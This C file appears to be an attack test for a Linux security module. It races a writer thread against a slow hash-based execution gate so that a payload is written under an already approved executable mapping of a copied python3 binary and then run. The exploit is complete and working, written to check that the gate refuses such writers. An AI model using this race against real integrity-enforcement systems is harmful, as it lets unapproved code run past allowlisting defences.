// SPDX-License-Identifier: GPL-2.0
/*
 * Route 15: a writer that appears while the hash gate decides. The main
 * thread maps a listed file executable; another thread keeps opening it
 * for writing at random moments and holds each descriptor a while. A
 * mapping decided while no writer existed at the check, but with one
 * opened during the (slow) hash, ends up executable next to a writable
 * descriptor, which then puts code under it. Every round uses a fresh
 * inode: a byte-identical copy of a large listed program (python3, so the
 * hash takes a while; this program itself where there is none), so a
 * manifest listing that program lists the copy. Exit 0 when one round
 * ran the code; 1 when no round did and opening for writing was refused.
 */
#define ATTACK_NAME "gate_race_writer"
#include "file.h"
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

#define RACE_SECONDS	6
#define WRITER_MAX_US	20000

enum { ANSWER_NONE, ANSWER_WRITTEN, ANSWER_MISSED, ANSWER_ERROR };

static char path[PATH_MAX + 16];
static atomic_int stop;
static atomic_int mapped;		/* a mapping of mapped_ino is waiting for an answer */
static atomic_ullong mapped_ino;
static atomic_int answer;
static atomic_int refused;		/* write-opens refused with EPERM */
static int writer_errno;

static long long now_us(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000LL + ts.tv_nsec / 1000;
}

/* Busy-wait up to US microseconds, or until a mapping waits for an answer. */
static void hold(long long us)
{
	long long end = now_us() + us;

	while (now_us() < end && !atomic_load(&mapped) && !atomic_load(&stop))
		;
}

/*
 * Answer a waiting mapping: write through FD if it is the mapped file,
 * else through a descriptor opened now (which nothing but the race should
 * let a governed task have).
 */
static void respond(int fd)
{
	int late = -1, err;
	struct stat st;

	if (!atomic_load(&mapped))
		return;
	if (fd < 0 || fstat(fd, &st) || st.st_ino != atomic_load(&mapped_ino)) {
		late = open(path, O_WRONLY | O_CLOEXEC);
		if (late < 0 || fstat(late, &st) || st.st_ino != atomic_load(&mapped_ino)) {
			if (late < 0 && errno == EPERM)
				atomic_fetch_add(&refused, 1);
			if (late >= 0)
				close(late);
			atomic_store(&answer, ANSWER_MISSED);
			return;
		}
		fd = late;
	}
	err = -attack_pwrite_all(fd, attack_payload, sizeof(attack_payload), ATTACK_PAGE);
	if (late >= 0)
		close(late);
	if (err == EPERM)
		atomic_fetch_add(&refused, 1);
	writer_errno = err;
	atomic_store(&answer, !err ? ANSWER_WRITTEN : err == EPERM ? ANSWER_MISSED : ANSWER_ERROR);
}

static void *writer(void *arg)
{
	unsigned int seed = (unsigned int)now_us();

	(void)arg;
	while (!atomic_load(&stop)) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);

		if (fd < 0 && errno != EPERM && errno != ENOENT) {
			writer_errno = errno;
			atomic_store(&answer, ANSWER_ERROR);
			break;
		}
		if (fd < 0 && errno == EPERM)
			atomic_fetch_add(&refused, 1);
		hold(rand_r(&seed) % WRITER_MAX_US);
		respond(fd);
		if (fd >= 0)
			close(fd);
		hold(rand_r(&seed) % WRITER_MAX_US);
		respond(-1);
	}
	return NULL;
}

int main(void)
{
	char big[PATH_MAX], tmp[PATH_MAX + 16];
	const char *src = "/proc/self/exe";
	int rounds = 0, maps = 0, err = 0;
	unsigned char *rx;
	long long end;
	pthread_t tid;
	struct stat st;

	attack_init();
	if (realpath("/usr/bin/python3", big))
		src = big;
	attack_scratch_create();
	snprintf(path, sizeof(path), "%s/copy", attack_scratch);
	snprintf(tmp, sizeof(tmp), "%s/next", attack_scratch);
	if (pthread_create(&tid, NULL, writer, NULL))
		attack_error("pthread_create failed");
	end = now_us() + RACE_SECONDS * 1000000LL;
	while (now_us() < end) {
		int fd;

		/* A fresh inode each round: no mark left by an earlier one. */
		unlink(tmp);
		attack_copy_file(src, tmp, 0700, 0);
		if (rename(tmp, path))
			attack_error("rename: %s", strerror(errno));
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0 || fstat(fd, &st))
			attack_error("open %s: %s", path, strerror(errno));
		rounds++;
		rx = mmap(NULL, st.st_size, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
		err = errno;
		close(fd);
		if (rx == MAP_FAILED) {
			if (err != EPERM)
				attack_error("mmap: %s", strerror(err));
			continue;
		}
		maps++;
		atomic_store(&answer, ANSWER_NONE);
		atomic_store(&mapped_ino, st.st_ino);
		atomic_store(&mapped, 1);
		while (atomic_load(&answer) == ANSWER_NONE)
			;
		atomic_store(&mapped, 0);
		if (atomic_load(&answer) == ANSWER_WRITTEN) {
			atomic_store(&stop, 1);
			pthread_join(tid, NULL);
			attack_scratch_remove(attack_scratch);
			attack_run_payload(rx + ATTACK_PAGE);
		}
		if (atomic_load(&answer) == ANSWER_ERROR)
			break;
		munmap(rx, st.st_size);
	}
	atomic_store(&stop, 1);
	pthread_join(tid, NULL);
	attack_scratch_remove(attack_scratch);
	if (atomic_load(&answer) != ANSWER_ERROR && atomic_load(&refused))
		attack_step_failed("opening for writing a file the gate was deciding about or had mapped",
				   EPERM);
	attack_error("no round won or was refused: %d rounds, %d mappings, last mmap errno %d, writer errno %d",
		     rounds, maps, err, writer_errno);
}
